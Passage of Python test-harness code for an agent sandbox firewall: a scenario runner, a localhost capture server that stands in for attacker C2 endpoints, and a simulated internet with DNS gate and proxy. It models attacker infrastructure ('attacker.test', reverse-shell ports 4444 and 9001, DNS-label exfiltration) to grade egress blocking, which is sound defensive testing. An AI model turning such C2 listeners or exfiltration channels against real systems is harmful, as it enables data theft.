    rules coexist as independent filter chains with separate path rules."""
    rules = default_rules() + [
        EgressRule(dst="clawker.dev", proto="https", port=443,
                   path_rules=[PathRule(path="/quickstart", action="allow")],
                   path_default="deny"),
        EgressRule(dst=".clawker.dev", proto="https", port=443,
                   path_rules=[PathRule(path="/introduction", action="allow")],
                   path_default="deny"),
    ]
    w = _world(tmp, rules)
    try:
        w.add_origin(["clawker.dev"])
        w.add_origin(["docs.clawker.dev"])
        apex_ok = w.curl("https://clawker.dev/quickstart")
        check(apex_ok.code != 403 and apex_ok.ok,
              f"apex allowed path blocked: {apex_ok.err or apex_ok.code}")
        apex_deny = w.curl("https://clawker.dev/introduction")
        check(apex_deny.code == 403,
              f"apex /introduction got {apex_deny.code}, want 403")
        sub_ok = w.curl("https://docs.clawker.dev/introduction")
        check(sub_ok.code != 403 and sub_ok.ok,
              f"wildcard allowed path blocked: {sub_ok.err or sub_ok.code}")
        sub_deny = w.curl("https://docs.clawker.dev/quickstart")
        check(sub_deny.code == 403,
              f"wildcard /quickstart got {sub_deny.code}, want 403")
        return {"apex": apex_ok.code, "sub": sub_ok.code}
    finally:
        w.close()


def _scenario_case(args: tuple[int, str]) -> dict:
    """Run scenario ``i`` (1-based) under ``base``; one scorecard row,
    never raises.  Top-level so a process pool can dispatch it."""
    i, base_str = args
    name, fn = SCENARIOS[i - 1]
    t0 = time.monotonic()
    try:
        evidence = fn(Path(base_str) / f"{i:02d}-{name}")
        return {"name": name, "pass": True,
                "ms": round((time.monotonic() - t0) * 1000),
                "evidence": evidence}
    except Exception as e:  # noqa: BLE001 - scorecard must finish
        return {"name": name, "pass": False,
                "ms": round((time.monotonic() - t0) * 1000),
                "evidence": {"error": f"{e.__class__.__name__}: {e}"}}


def scenario_cases(base: Path) -> list[tuple[int, str]]:
    """One ready-to-dispatch :func:`_scenario_case` arg per scenario."""
    return [(i, str(base)) for i in range(1, len(SCENARIOS) + 1)]


def run_all(base: Path, jobs: int = 1) -> list[dict]:
    """Run every scenario; returns scorecard rows (never raises).

    ``jobs > 1`` fans the independent cases across a bounded PROCESS
    pool (BENCH_r05: 20.5s serial ``parity_suite_wall``).  Processes,
    not threads: every case already owns its own tmpdir subtree, but
    the control-plane cases enter a :class:`~clawker_tpu.testenv.TestEnv`
    that swaps process-global XDG env vars -- per-process isolation
    keeps that safe, and each case binds only ephemeral ports so
    parallel worlds never collide."""
    cases = scenario_cases(base)
    if jobs <= 1:
        return [_scenario_case(c) for c in cases]
    import multiprocessing
    from concurrent.futures import ProcessPoolExecutor

    with ProcessPoolExecutor(
            max_workers=min(jobs, len(cases)),
            mp_context=multiprocessing.get_context("fork")) as ex:
        return list(ex.map(_scenario_case, cases))
