"""Socket-level attacker capture server for the adversarial suite.

Re-derivation of the reference C2 test server
(/root/reference/test/adversarial/attacker-server/main.go): every byte
that reaches an attacker-controlled endpoint is recorded in a sqlite
capture DB the operator grades from.  Listeners:

- raw TCP  : any connection, any bytes (beaconing, custom protocols)
- TLS      : self-signed "attacker CA" cert -- captures decrypted
  payloads when a client is willing to trust it or skip verification
- HTTP     : per-technique capture endpoints (/c/<id>), plus any path
- UDP      : datagram capture (DNS-tunnel / QUIC-shaped exfil)
- DNS view : the world resolver reports queries for attacker zones via
  ``record_dns`` -- label-encoded exfil that never even opens a data
  socket still shows up here

Grading contract: the suite PASSES only when the captures table is
empty for every technique -- an attacker observing anything at all is
an escape, which is strictly stronger than the verdict-taxonomy check
the semantic harness applies.
"""

from __future__ import annotations

import socket
import socketserver
import sqlite3
import threading
import time
from pathlib import Path


class CaptureStore:
    """Sqlite captures table (reference main.go initDB)."""

    def __init__(self, path: str | Path = ":memory:"):
        self.conn = sqlite3.connect(str(path), check_same_thread=False)
        self._lock = threading.Lock()
        self.conn.execute(
            "CREATE TABLE IF NOT EXISTS captures ("
            " id INTEGER PRIMARY KEY AUTOINCREMENT,"
            " ts REAL, technique TEXT, proto TEXT, transport TEXT,"
            " raw BLOB, bytes INTEGER)"
        )

    def insert(self, technique: str, proto: str, transport: str,
               raw: bytes) -> None:
        with self._lock:
            self.conn.execute(
                "INSERT INTO captures (ts, technique, proto, transport, raw,"
                " bytes) VALUES (?, ?, ?, ?, ?, ?)",
                (time.time(), technique, proto, transport, raw, len(raw)))
            self.conn.commit()

    def count(self, technique: str | None = None) -> int:
        q = "SELECT COUNT(*) FROM captures"
        args: tuple = ()
        if technique is not None:
            q += " WHERE technique = ?"
            args = (technique,)
        with self._lock:
            return self.conn.execute(q, args).fetchone()[0]

    def all(self) -> list[tuple]:
        with self._lock:
            return list(self.conn.execute(
                "SELECT technique, proto, transport, bytes FROM captures"))

    def close(self) -> None:
        self.conn.close()


class AttackerServer:
    """All attacker listeners on 127.0.0.1 ephemerals + the capture DB."""

    def __init__(self, store: CaptureStore | None = None, *,
                 tls_cert: str | None = None, tls_key: str | None = None):
        self.store = store or CaptureStore()
        self.tls_cert, self.tls_key = tls_cert, tls_key
        self.tcp_port = 0
        self.tls_port = 0
        self.http_port = 0
        self.udp_port = 0
        self._servers: list = []
        self._threads: list[threading.Thread] = []
        # Captures are inserted from socketserver handler threads, never
        # the dialer thread, so the technique tag must be a cross-thread
        # plain attribute (scenarios run sequentially), not a
        # threading.local that would read unset as "?" in handlers.
        self._technique_lock = threading.Lock()
        self._technique_name = "?"

    # The dialer tags which technique is currently attacking so captures
    # attribute to it (the reference uses per-test capture paths).
    def set_technique(self, name: str) -> None:
        with self._technique_lock:
            self._technique_name = name

    def _current(self) -> str:
        with self._technique_lock:
            return self._technique_name

    # ------------------------------------------------------------ servers

    def start(self) -> None:
        att = self

        class _Tcp(socketserver.BaseRequestHandler):
            def handle(self):
                data = b""
                try:
                    self.request.settimeout(2.0)
                    while len(data) < 1 << 20:
                        chunk = self.request.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                except OSError:
                    pass
                att.store.insert(att._current(), "tcp", "raw", data or b"<connect>")

        class _Tls(socketserver.BaseRequestHandler):
            def handle(self):
                import ssl
                try:
                    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                    ctx.load_cert_chain(att.tls_cert, att.tls_key)
                    with ctx.wrap_socket(self.request, server_side=True) as tls:
                        tls.settimeout(2.0)
                        data = b""
                        try:
                            while len(data) < 1 << 20:
                                chunk = tls.recv(65536)
                                if not chunk:
                                    break
                                data += chunk
                        except OSError:
                            pass
                        att.store.insert(att._current(), "tls", "tls",
                                         data or b"<handshake>")
                except (OSError, ssl.SSLError):
                    # handshake never completed: nothing decrypted, but the
                    # TCP reach itself is still attacker-visible
                    att.store.insert(att._current(), "tls", "tcp-reach",
                                     b"<pre-handshake connect>")

        class _Http(socketserver.StreamRequestHandler):
            def handle(self):
                from .envoysim import read_http_request
                try:
                    self.request.settimeout(2.0)
                    req = read_http_request(self.rfile)
                except OSError:
                    req = None
                if req is None:
                    att.store.insert(att._current(), "http", "raw", b"<connect>")
                    return
                att.store.insert(att._current(), "http", "http",
                                 req.raw_head + req.body)
                body = b'{"ok": true}'
                self.wfile.write(
                    b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n"
                    b"connection: close\r\n\r\n%s" % (len(body), body))

        class _Udp(socketserver.BaseRequestHandler):
            def handle(self):
                data, _sock = self.request
                att.store.insert(att._current(), "udp", "udp", data)

        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingUDPServer.allow_reuse_address = True
        tcp = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Tcp)
        http = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Http)
        udp = socketserver.ThreadingUDPServer(("127.0.0.1", 0), _Udp)
        self.tcp_port = tcp.server_address[1]
        self.http_port = http.server_address[1]
        self.udp_port = udp.server_address[1]
        self._servers = [tcp, http, udp]
        if self.tls_cert and self.tls_key:
            tls = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Tls)
            self.tls_port = tls.server_address[1]
            self._servers.append(tls)
        for srv in self._servers:
            # tight poll so stop() returns promptly (default 0.5s/server)
            t = threading.Thread(
                target=srv.serve_forever, kwargs={"poll_interval": 0.05},
                daemon=True)
            t.start()
            self._threads.append(t)

    def stop(self) -> None:
        for srv in self._servers:
            srv.shutdown()
            srv.server_close()
        for t in self._threads:
            t.join(2.0)
        self._servers.clear()
        self._threads.clear()

    # ------------------------------------------------------------ DNS view

    def record_dns(self, qname: str) -> None:
        """Called by the world resolver when a query for an attacker zone
        escapes to upstream DNS (label-encoded exfiltration)."""
        self.store.insert(self._current(), "dns", "query", qname.encode())
