"""A virtual internet for socket-level firewall parity runs.

Wires every enforcement surface the production stack uses -- FakeMaps
with kernel semantics, the policy oracle as the kernel twin, the REAL
DnsGate serving a REAL UDP socket, and the generated Envoy bootstrap
*executed* by EnvoySim -- around a set of real localhost origin servers
(benign upstreams, the attacker capture server, the host proxy).  A
scenario's curl/dig analogues cross actual sockets end to end; the only
fakes are the kernel hook (the policy oracle, differentially tested
against the C in tests/test_fw_kernel.py) and world DNS/IP space.

Topology (mirrors the clawker-net static-IP layout, SURVEY.md 2.8):
  DNS gate   10.99.0.1:53   (real listener on 127.0.0.1:<ephemeral>)
  Envoy      10.99.0.2      (EnvoySim listeners, port_map translated)
  host proxy 10.99.0.1:18374 (real HostProxy)
  origins    198.51.100.0/24 (TEST-NET-2: benign upstream servers)
  attacker   203.0.113.0/24  (TEST-NET-3: capture server endpoints)
"""

from __future__ import annotations

import socket
import ssl
import struct
import threading
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

from ..config.schema import EgressRule
from ..firewall import pki, policy as policy_mod
from ..firewall.dnsgate import DnsGate, ZonePolicy, parse_a_records, parse_query
from ..firewall.envoy import generate_envoy_config
from ..firewall.maps import FakeMaps
from ..firewall.model import (
    FLAG_ENFORCE,
    FLAG_HOSTPROXY,
    PROTO_TCP,
    PROTO_UDP,
    Action,
    ContainerPolicy,
    Reason,
)
from .attacker import AttackerServer, CaptureStore
from .envoysim import EnvoySim, read_http_request

CG_AGENT = 0xA6E27  # the sandboxed agent's cgroup id in the world
DNS_IP = "10.99.0.1"
ENVOY_IP = "10.99.0.2"
HOSTPROXY_IP = "10.99.0.1"
HOSTPROXY_PORT = 18374


class EgressBlocked(Exception):
    """The kernel twin denied the flow before any bytes left."""

    def __init__(self, reason: Reason):
        super().__init__(f"egress denied: {reason.name}")
        self.reason = reason


@dataclass
class CurlResult:
    code: int = 0            # HTTP status; 0 on transport failure
    body: bytes = b""
    err: str = ""            # curl-style failure class, "" on success

    @property
    def ok(self) -> bool:
        return self.err == "" and 200 <= self.code < 400


class OriginServer:
    """One benign upstream host: plain HTTP + TLS on ephemerals, plus an
    optional raw-TCP banner port (the ssh-keyscan scenario)."""

    def __init__(self, domains: list[str], ca: pki.CA, tmp: Path, *,
                 banner: bytes = b""):
        self.domains = domains
        self.requests: list[tuple[str, str]] = []  # (host, path)
        self._lock = threading.Lock()
        pair = pki._issue(ca, domains[0], dns_names=domains, server=True)
        self.cert_file = tmp / f"{domains[0].replace('*', 'w')}.crt"
        self.key_file = tmp / f"{domains[0].replace('*', 'w')}.key"
        self.cert_file.write_bytes(pair.cert_pem)
        self.key_file.write_bytes(pair.key_pem)
        self.banner = banner
        self.http_port = 0
        self.tls_port = 0
        self.banner_port = 0
        self._servers: list[socket.socket] = []
        self._threads: list[threading.Thread] = []
        self._stop = threading.Event()

    def start(self) -> None:
        self.http_port = self._listen(self._serve_http, tls=False)
        self.tls_port = self._listen(self._serve_http, tls=True)
        if self.banner:
            self.banner_port = self._listen(self._serve_banner, tls=False)

    def _listen(self, handler, *, tls: bool) -> int:
        srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("127.0.0.1", 0))
        srv.listen(16)
        # finite accept timeout so stop() joins promptly (close() alone
        # does not wake a thread blocked in accept())
        srv.settimeout(0.2)
        self._servers.append(srv)

        def loop():
            ctx = None
            if tls:
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
                ctx.load_cert_chain(str(self.cert_file), str(self.key_file))
            while not self._stop.is_set():
                try:
                    conn, _ = srv.accept()
                except socket.timeout:
                    continue
                except OSError:
                    return
                threading.Thread(target=self._wrap, args=(conn, handler, ctx),
                                 daemon=True).start()

        t = threading.Thread(target=loop, daemon=True)
        t.start()
        self._threads.append(t)
        return srv.getsockname()[1]

    def _wrap(self, conn: socket.socket, handler, ctx) -> None:
        try:
            conn.settimeout(5.0)
            if ctx is not None:
                conn = ctx.wrap_socket(conn, server_side=True)
            handler(conn)
        except (OSError, ssl.SSLError):
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    def _serve_http(self, conn) -> None:
        rfile = conn.makefile("rb")
        req = read_http_request(rfile)
        if req is None:
            return
        with self._lock:
            self.requests.append((req.host, req.target))
        body = b"origin ok: " + req.target.encode()
        conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n"
                     b"connection: close\r\n\r\n%s" % (len(body), body))

    def _serve_banner(self, conn) -> None:
        conn.sendall(self.banner)
        with self._lock:
            self.requests.append(("<banner>", ""))

    def stop(self) -> None:
        self._stop.set()
        for srv in self._servers:
            try:
                srv.close()
            except OSError:
                pass
        for t in self._threads:
            t.join(1.0)


class World:
    """The assembled virtual internet + sandbox enforcement stack."""

    def __init__(self, rules: list[EgressRule], tmp: Path, *,
                 enforce: bool = True, hostproxy: bool = True,
                 enrolled: bool = True,
                 intra_net: tuple[str, int] | None = None,
                 captures: CaptureStore | None = None):
        tmp.mkdir(parents=True, exist_ok=True)
        self.tmp = tmp
        self.rules = rules
        self.maps = FakeMaps()
        self.dns_table: dict[str, str] = {}          # domain -> virtual IP
        self.endpoints: dict[tuple[str, int], tuple[str, int]] = {}
        self.attacker_zones: set[str] = set()
        self.upstream_queries: list[str] = []        # what internet DNS saw
        self.origins: dict[str, OriginServer] = {}
        self._next_origin_ip = 10
        self._next_attacker_ip = 10

        # two trust roots: the firewall CA (MITM) and the "internet" CA
        self.fw_ca = pki.ensure_ca(tmp / "fw-pki")
        self.net_ca = pki.generate_ca("parity world internet CA")
        self.ca_bundle = tmp / "ca-bundle.pem"
        self.ca_bundle.write_bytes(self.fw_ca.cert_pem + self.net_ca.cert_pem)

        # attacker infrastructure (TLS cert from its own junk CA)
        atk_ca = pki.generate_ca("attacker CA")
        atk_pair = pki._issue(atk_ca, "attacker.test",
                              dns_names=["attacker.test", "*.attacker.test"],
                              server=True)
        (tmp / "atk.crt").write_bytes(atk_pair.cert_pem)
        (tmp / "atk.key").write_bytes(atk_pair.key_pem)
        self.attacker = AttackerServer(
            captures or CaptureStore(),
            tls_cert=str(tmp / "atk.crt"), tls_key=str(tmp / "atk.key"))
        self.attacker.start()
        self.add_attacker_host("attacker.test")

        # enforcement surfaces.  enrolled=False models `firewall.enable:
        # false` -- the cgroup is never enrolled, every verdict is
        # UNMANAGED ALLOW (reference e2e FirewallDisabled).
        if enrolled:
            flags = (FLAG_ENFORCE if enforce else 0) | (FLAG_HOSTPROXY if hostproxy else 0)
            net_ip, net_prefix = intra_net or ("0.0.0.0", 0)
            self.maps.enroll(CG_AGENT, ContainerPolicy(
                envoy_ip=ENVOY_IP, dns_ip=DNS_IP,
                hostproxy_ip=HOSTPROXY_IP, hostproxy_port=HOSTPROXY_PORT,
                flags=flags, net_ip=net_ip, net_prefix=net_prefix))
        self.bundle = generate_envoy_config(rules, cert_dir=str(tmp / "mitm"))
        (tmp / "mitm").mkdir(exist_ok=True)
        self._write_mitm_certs()
        self.maps.sync_routes(policy_mod.build_routes(
            rules, envoy_ip=ENVOY_IP, tls_port=10000,
            tcp_ports=self.bundle.tcp_ports))

        self.gate = DnsGate(ZonePolicy.from_rules(rules), self.maps,
                            host="127.0.0.1", port=0,
                            internal_lookup=self._internal_lookup)
        self.gate._forward = self._world_dns_forward  # upstream = this world
        self.gate.start()

        self.envoy = EnvoySim(self.bundle.config_yaml, self._resolve,
                              upstream_ca=str(self.ca_bundle))
        self.envoy.start()

        self.hostproxy = None
        if hostproxy:
            from ..hostproxy.server import HostProxy

            class _ProxyCfg:  # the proxy only reads egress_rules()
                def __init__(self, r):
                    self._r = r

                def egress_rules(self):
                    return self._r

            self.hostproxy = HostProxy(
                _ProxyCfg(rules), host="127.0.0.1", port=0,
                open_browser=lambda url: True,
                git_fill=lambda req: "")
            self.hostproxy.start()

        self._cookie_lock = threading.Lock()
        self._cookie = 0
        self.internal_hosts: dict[str, str] = {}     # docker.internal names

    # ---------------------------------------------------------- inventory

    def add_origin(self, domains: list[str], *, banner: bytes = b"",
                   extra_ports: dict[int, str] = {}) -> OriginServer:
        """Create a benign origin for ``domains``; all map to one virtual
        IP with HTTP:80 / TLS:443 (+ banner port, e.g. 22)."""
        origin = OriginServer(domains, self.net_ca, self.tmp, banner=banner)
        origin.start()
        vip = f"198.51.100.{self._next_origin_ip}"
        self._next_origin_ip += 1
        for d in domains:
            self.dns_table[d.lower()] = vip
            self.origins[d.lower()] = origin
        self.endpoints[(vip, 80)] = ("127.0.0.1", origin.http_port)
        self.endpoints[(vip, 443)] = ("127.0.0.1", origin.tls_port)
        if banner:
            for port in (extra_ports or {22: "banner"}):
                self.endpoints[(vip, port)] = ("127.0.0.1", origin.banner_port)
        return origin

    def add_attacker_host(self, domain: str) -> str:
        """Register an attacker-controlled name; returns its virtual IP."""
        vip = f"203.0.113.{self._next_attacker_ip}"
        self._next_attacker_ip += 1
        self.dns_table[domain.lower()] = vip
        self.attacker_zones.add(domain.lower())
        self.endpoints[(vip, 443)] = ("127.0.0.1", self.attacker.tls_port)
        self.endpoints[(vip, 80)] = ("127.0.0.1", self.attacker.http_port)
        for port in (4444, 8443, 9001, 53):
            self.endpoints[(vip, port)] = ("127.0.0.1", self.attacker.tcp_port)
        self.attacker_udp = ("127.0.0.1", self.attacker.udp_port)
        return vip

    def add_internal_host(self, name: str, vip: str,
                          real: tuple[str, int] | None = None,
                          port: int = 80) -> None:
        """docker.internal-zone name answered from the engine inventory."""
        self.internal_hosts[name.lower().rstrip(".")] = vip
        if real is not None:
            self.endpoints[(vip, port)] = real

    def _internal_lookup(self, qname: str) -> str | None:
        return self.internal_hosts.get(qname.lower().rstrip("."))

    def _write_mitm_certs(self) -> None:
        for apex in self.bundle.mitm_domains:
            pair = pki.generate_domain_cert(self.fw_ca, f"*.{apex}")
            (self.tmp / "mitm" / f"{apex}.crt").write_bytes(pair.cert_pem)
            (self.tmp / "mitm" / f"{apex}.key").write_bytes(pair.key_pem)

    # ------------------------------------------------------------- wiring

    def _resolve(self, host: str, port: int) -> tuple[str, int] | None:
        """LOGICAL_DNS / DFP resolution as the proxy sees the world."""
        vip = self.dns_table.get(host.lower().rstrip("."))
        if vip is None:
            return None
        return self.endpoints.get((vip, port))

    def _record_upstream(self, qname: str) -> str:
        """A query escaped to 'internet DNS': log it, and report attacker
        zones to the capture DB (DNS-label exfil is observable traffic)."""
        qname = qname.lower().rstrip(".")
        self.upstream_queries.append(qname)
        for zone in self.attacker_zones:
            if qname == zone or qname.endswith("." + zone):
                self.attacker.record_dns(qname)
                break
        return qname

    def _world_dns_forward(self, data: bytes, resolvers, *, tcp: bool):
        """Upstream resolver stand-in: answers from the world DNS table,
        records every query the gate let out."""
        try:
            q = parse_query(data)
        except Exception:
            return None
        self._record_upstream(q.qname)
        ip = self.dns_table.get(q.qname)
        if ip is None:
            # upstream: NXDOMAIN-shaped reply
            flags = 0x8180 | 3
            return struct.pack(">HHHHHH", q.qid, flags, 1, 0, 0, 0) + q.raw_question
        flags = 0x8180
        hdr = struct.pack(">HHHHHH", q.qid, flags, 1, 1, 0, 0)
        answer = (struct.pack(">HHHIH", 0xC00C, 1, 1, 120, 4)
                  + socket.inet_aton(ip))
        return hdr + q.raw_question + answer

    # ------------------------------------------------------- kernel twin

    def cookie(self) -> int:
        with self._cookie_lock:
            self._cookie += 1
            return self._cookie

    def open_tcp(self, ip: str, port: int, *,
                 technique: str = "") -> socket.socket:
        """connect() through the kernel twin; returns a REAL socket to
        wherever the verdict steers the flow."""
        if technique:
            self.attacker.set_technique(technique)
        v = policy_mod.connect4(self.maps, CG_AGENT, ip, port, PROTO_TCP,
                                sock_cookie=self.cookie())
        if v.action is Action.DENY:
            raise EgressBlocked(v.reason)
        if v.action in (Action.REDIRECT, Action.REDIRECT_DNS):
            if v.action is Action.REDIRECT_DNS:
                target = ("127.0.0.1", self.gate.bound_port)
            else:
                bound = self.envoy.port_map.get(v.redirect_port)
                if bound is None:
                    raise ConnectionRefusedError(
                        f"no proxy listener at {v.redirect_port}")
                target = ("127.0.0.1", bound)
            return socket.create_connection(target, timeout=5.0)
        # ALLOW: direct to the destination the world knows
        if ip.startswith("127."):
            return socket.create_connection((ip, port), timeout=5.0)
        if ip == ENVOY_IP and port in self.envoy.port_map:
            # dialing the proxy chokepoint directly: the kernel allows it
            # (Envoy's SNI default-deny is the enforcement surface there)
            return socket.create_connection(
                ("127.0.0.1", self.envoy.port_map[port]), timeout=5.0)
        if ip == HOSTPROXY_IP and port == HOSTPROXY_PORT and self.hostproxy:
            return socket.create_connection(
                ("127.0.0.1", self.hostproxy.bound_port), timeout=5.0)
        real = self.endpoints.get((ip, port))
        if real is None:
            raise ConnectionRefusedError(f"unreachable {ip}:{port}")
        return socket.create_connection(real, timeout=5.0)

    def send_udp(self, ip: str, port: int, payload: bytes, *,
                 technique: str = "") -> None:
        if technique:
            self.attacker.set_technique(technique)
        cookie = self.cookie()
        v = policy_mod.sendmsg4(self.maps, CG_AGENT, cookie, ip, port)
        if v.action is Action.DENY:
            raise EgressBlocked(v.reason)
        if v.action is Action.REDIRECT_DNS:
            target = ("127.0.0.1", self.gate.bound_port)
        elif v.action is Action.REDIRECT:
            target = ("127.0.0.1",
                      self.envoy.port_map.get(v.redirect_port, 1))
        elif (ip, port) == (DNS_IP, 53):
            # explicitly resolver-directed traffic lands on the real gate
            target = ("127.0.0.1", self.gate.bound_port)
        elif ip in {self.dns_table.get(z) for z in self.attacker_zones}:
            # ANY port on attacker infrastructure captures: an allowed
            # datagram that reaches the attacker's address is an escape
            # regardless of which port the C2 listens on.
            target = self.attacker_udp
        elif port == 53:
            # allowed direct :53 to a non-gate resolver = the query
            # reached "internet DNS" unfiltered; the upstream resolver
            # stand-in sees (and, for attacker zones, captures) it.
            self._world_dns_forward(payload, (), tcp=False)
            return
        else:
            target = self.endpoints.get((ip, port))
            if target is None:
                return  # datagram into the void
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(payload, target)

    def raw_socket_verdict(self):
        return policy_mod.sock_create(self.maps, CG_AGENT, 2,
                                      policy_mod.SOCK_RAW)

    # --------------------------------------------------------- resolvers

    def dig(self, name: str, qtype: int = 1) -> tuple[int, list[str]]:
        """dig through the kernel twin + the REAL gate socket.

        An ALLOW verdict (bypass / unenrolled cgroup) means the kernel
        did NOT rewrite the resolver address: the query reaches upstream
        "internet DNS" (the world table) directly, exactly as a bypassed
        container's queries flow to its configured resolver."""
        v = policy_mod.sendmsg4(self.maps, CG_AGENT, self.cookie(),
                                "8.8.8.8", 53)
        if v.action is Action.DENY:
            return -1, []
        if v.action is Action.ALLOW:
            # un-gated resolution: the query reaches upstream internet DNS
            # directly (and attacker zones observe it)
            qname = self._record_upstream(name)
            ip = self.dns_table.get(qname)
            return (0, [ip]) if ip else (3, [])
        from ..firewall.dnsgate import _encode_name
        hdr = struct.pack(">HHHHHH", 0x2222, 0x0100, 1, 0, 0, 0)
        query = hdr + _encode_name(name) + struct.pack(">HH", qtype, 1)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5.0)
            s.sendto(query, ("127.0.0.1", self.gate.bound_port))
            try:
                reply = s.recv(4096)
            except socket.timeout:
                return -1, []
        rcode = struct.unpack(">H", reply[2:4])[0] & 0xF
        return rcode, [ip for ip, _ in parse_a_records(reply)]

    # -------------------------------------------------------------- curl

    def curl(self, url: str, *, method: str = "GET",
             headers: dict[str, str] | None = None, body: bytes = b"",
             follow: bool = True, max_redirects: int = 5,
             technique: str = "", insecure: bool = False) -> CurlResult:
        """curl analogue: resolve via the gate, connect via the kernel
        twin, TLS against the world trust bundle, follow redirects."""
        for _ in range(max_redirects + 1):
            u = urllib.parse.urlsplit(url)
            host = u.hostname or ""
            port = u.port or (443 if u.scheme == "https" else 80)
            path = (u.path or "/") + (f"?{u.query}" if u.query else "")
            try:  # IP-literal target: no resolver step (curl semantics)
                socket.inet_aton(host)
                ips = [host]
            except OSError:
                rcode, ips = self.dig(host)
                if rcode != 0 or not ips:
                    return CurlResult(err=f"could not resolve host: {host}")
            try:
                sock = self.open_tcp(ips[0], port, technique=technique)
            except EgressBlocked as e:
                return CurlResult(err=f"connection blocked: {e.reason.name}")
            except OSError as e:
                return CurlResult(err=f"connect failed: {e}")
            try:
                if u.scheme == "https":
                    ctx = ssl.create_default_context(
                        cafile=str(self.ca_bundle))
                    if insecure:
                        ctx.check_hostname = False
                        ctx.verify_mode = ssl.CERT_NONE
                    try:
                        sock = ctx.wrap_socket(sock, server_hostname=host)
                    except (ssl.SSLError, OSError) as e:
                        return CurlResult(err=f"tls failed: {e.__class__.__name__}")
                head = f"{method} {path} HTTP/1.1\r\nhost: {host}\r\n"
                for k, v in (headers or {}).items():
                    head += f"{k}: {v}\r\n"
                if body:
                    head += f"content-length: {len(body)}\r\n"
                head += "connection: close\r\n\r\n"
                try:
                    sock.sendall(head.encode("latin-1") + body)
                    raw = b""
                    while len(raw) < 1 << 22:
                        chunk = sock.recv(65536)
                        if not chunk:
                            break
                        raw += chunk
                except OSError as e:
                    return CurlResult(err=f"recv failed: {e}")
            finally:
                try:
                    sock.close()
                except OSError:
                    pass
            if not raw:
                return CurlResult(err="empty reply from server")
            try:
                head_raw, _, resp_body = raw.partition(b"\r\n\r\n")
                status = int(head_raw.split(b"\r\n")[0].split(b" ")[1])
            except (ValueError, IndexError):
                return CurlResult(err="malformed response")
            if follow and status in (301, 302, 307, 308):
                loc = ""
                for line in head_raw.split(b"\r\n")[1:]:
                    if line.lower().startswith(b"location:"):
                        loc = line.split(b":", 1)[1].strip().decode()
                if loc.startswith("/"):
                    url = f"{u.scheme}://{host}:{port}{loc}" \
                        if u.port else f"{u.scheme}://{host}{loc}"
                    continue
                elif loc:
                    url = loc
                    continue
            return CurlResult(code=status, body=resp_body)
        return CurlResult(err="too many redirects")

    # ---------------------------------------------------------- lifecycle

    def reload_rules(self, rules: list[EgressRule]) -> None:
        """firewall add/remove analogue: regenerate Envoy + routes + zones
        the way Handler.regenerate does, swap atomically."""
        self.rules = rules
        self.bundle = generate_envoy_config(rules, cert_dir=str(self.tmp / "mitm"))
        self._write_mitm_certs()
        self.maps.sync_routes(policy_mod.build_routes(
            rules, envoy_ip=ENVOY_IP, tls_port=10000,
            tcp_ports=self.bundle.tcp_ports))
        self.gate.set_policy(ZonePolicy.from_rules(rules))
        self.envoy.stop()
        self.envoy = EnvoySim(self.bundle.config_yaml, self._resolve,
                              upstream_ca=str(self.ca_bundle))
        self.envoy.start()

    def close(self) -> None:
        self.envoy.stop()
        self.gate.stop()
        self.attacker.stop()
        if self.hostproxy is not None:
            self.hostproxy.stop()
        for origin in set(self.origins.values()):
            origin.stop()
