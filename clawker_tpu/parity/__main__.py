"""``python -m clawker_tpu.parity`` -- print the reference parity scorecard.

Runs the 22 e2e scenarios from :mod:`clawker_tpu.parity.scenarios` plus
the 30-technique capture-graded adversarial corpus
(:mod:`clawker_tpu.parity.redteam`) against the virtual-internet World +
the real FirewallHandler, and prints the ``N/22 PASS`` + ``M/30
techniques / K captures`` headlines BASELINE.md's firewall-parity metric
is scored on.  Exit code 0 only on a full pass.

``--json`` emits the machine-readable scorecard instead.
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import time
from pathlib import Path

from .redteam import run_corpus
from .scenarios import SCENARIOS, run_all


def default_parity_jobs() -> int:
    """Bounded worker-pool size for the parallel parity suite."""
    import os

    return max(2, min(8, os.cpu_count() or 4))


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m clawker_tpu.parity")
    ap.add_argument("--json", action="store_true", help="emit JSON scorecard")
    ap.add_argument("--workdir", help="keep scenario artifacts here")
    ap.add_argument("--jobs", "-j", type=int, default=0,
                    help="fan independent scenario/corpus cases across N "
                         "worker processes (0 = auto, 1 = serial)")
    args = ap.parse_args(argv)
    jobs = args.jobs if args.jobs > 0 else default_parity_jobs()

    t0 = time.monotonic()
    if args.workdir:
        base = Path(args.workdir)
        base.mkdir(parents=True, exist_ok=True)
        rows = run_all(base, jobs=jobs)
        red = run_corpus(base / "redteam", jobs=jobs)
    else:
        with tempfile.TemporaryDirectory(prefix="clawker-parity-") as td:
            rows = run_all(Path(td), jobs=jobs)
            red = run_corpus(Path(td) / "redteam", jobs=jobs)
    wall_s = time.monotonic() - t0
    passed = sum(1 for r in rows if r["pass"])
    all_ok = passed == len(rows) and red["passed"] == red["total"] \
        and red["captures"] == 0

    if args.json:
        print(json.dumps({"passed": passed, "total": len(rows),
                          "wall_s": round(wall_s, 3), "scenarios": rows,
                          "redteam": red}))
        return 0 if all_ok else 1

    print("e2e scenarios (reference test/e2e/firewall_test.go):")
    for r in rows:
        mark = "PASS" if r["pass"] else "FAIL"
        detail = "" if r["pass"] else f"  {r['evidence'].get('error', '')}"
        print(f"  [{mark}] {r['name']:<40} {r['ms']:>6} ms{detail}")
    print(f"\n{passed}/{len(rows)} PASS")
    print("\nadversarial corpus (reference test/adversarial, capture-graded):")
    for t in red["techniques"]:
        mark = "PASS" if t["pass"] else "FAIL"
